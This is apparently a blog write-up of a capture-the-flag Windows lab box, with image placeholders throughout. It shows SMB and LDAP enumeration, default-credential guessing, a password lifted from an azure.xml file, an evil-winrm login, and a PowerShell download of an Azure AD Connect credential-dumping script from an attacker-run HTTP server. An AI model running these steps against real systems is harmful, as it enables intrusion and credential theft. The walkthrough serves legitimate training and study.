Note: In an attempt to be OSCP friendly, NONE of my write ups will utilize Metasploit. Zero. Zip. Tell your friends.

As always, we’ll start with a basic nMap scan: nmap -sC -sV 10.10.10.X

As you can see, there’s a ton of stuff open on this Windows box. SMB 445, and the LDAP ports stand out for starters. With this in mind, we can use enum4linux to try to enemurate more information from this machine.

Type enum4linux without any flags tosee what options are available. After reviewing the help file, we’ll want to use option -a. Thus, our command looks like this: enum4linux -a 10.10.10.X

Enum4linux can enumerate some basic Active Directory information, so that’s one of the reasons we chose to use it for our enumeration. Looking through the results we can see the usernames of some of the users on this box:


Since the SMB ports are open on our target machine, we can try to mount to any SMB shares that are on the computer using smbclient. Documentation is available here:

You can type something like smbclient -L 10.10.10.X -U <username> to try to log in as a user. Obviously, this requires you knowing their password:

After trying several users, and several passwords that could be considered default, I was able to gain access with the user SABatchJobs and the password SABatchJobs

We can see here that there are several directories in it. So let’s use SMB to try to connect to one: smbclient //10.10.10.X/azure_uploads -U SABatchJobs

And there’s nothing in there, so let’s try the admin$ one: smbclient //10.10.10.X/admin$ -U SABatchJobs

And we can’t get in there, so let’s continue: smbclient //10.10.10.X/users$ -U SABatchJobs

And there’s some stuff. So let’s try digging into a few of the directories there:

And the 2nd one we look into there’s a file called azure.xml, so let’s get it and then see what we can find out about it. So type get azure.xml and it’ll download to your current directory on your Kali box.

And then cat the file from your Kalibox.

And we’ve got a password, so let’s put this in a file so we can get to it quickly should we need it. echo 4n0therD4y@n0th3r$ > mhope_password.txt


Now that we have a username and password, let’s see if we can leverage it to gain further acess to the computer. We’re going to use Evil-WinRM which takes advantage of Windows Remote Management. More information about it can be found here:

But first, we’ve gotta install it. If you scroll down far enough on their website/GitHub page there’s instructions.

We can then run it with the following syntax: evil-winrm -u mhope -p 4n0therD4y@n0th3r$ -i 10.10.10.X

From here, you can navigate to the Desktop and get the user.txt flag.

Getting Root

When we run the command whoami we can see that the user is part of a group that appears to have some type of administrator access, based on its name.

Utilizing Google, we come across a link that appears to dump Azure credentials using AD Connect

After some reading (and some trial and error) I came across a tool on GitHub that I think will do what I want it to: Azure-ADConnect.

We’ll start by navigating to the webpage and clicking on the Raw button

Next, copy the URL and then from your Kali terminal, do a wgetNow the problematic part, getting this script over to our target Windows machine.

Simple HTTP Server

I tried several ways initially to get this file over there. First, I tried using SMB. I created a new directory called smb and moved the Azure-ADConnect.ps1 file into it, and then setup my smbserver with the following command: impacket-smbserver <share name> <share path>

Then from the victum Windows machine I tried to connect map to my Kali’s smb drive with the following command: net use <drive letter to assign> <\\target IP\shared folder name> or net use t: \\\smb

And there’s a security issue. Bummer. So I killed my smbserver on Kali and looked at the help file and lo and behold, there’s an option for SMB2 support: -smb2support

So we’ll update our command: impacket-smbserver -smb2support smb smb

And then try to re-map our drive to our Kali smb share:

And get told promptly to fuck off. Hrm. Sounds like a job for Python’s Simple HTTP server.

After killing the SMB server on my Kali box, I made sure I was in the same directory the .ps1 script was in and then started the Python HTTP server: python -m SimpleHTTPServer 80

And then from the Windows machine, we’ll use PowerShell to copy the script to our target machine: powershell -c “(new-object System.Net.WebClient).DownloadFile(‘′,’C:\Users\mhope\Documents\Azure-ADConnect.ps1’)”

Next, we need to import the script/module we just copied into PowerShell: import-module ./Azure-ADConnect.ps1

And then we’ll run the script: Azure-ADConnect -server -db ADSync

Now, we can kill our Evil-WinRM session and then re-establish it with the administrator account and the password we justdiscovered:

Navigate to the Desktop folder and there’s the root flag.

Leave a Reply

Your email address will not be published.Required fields are marked *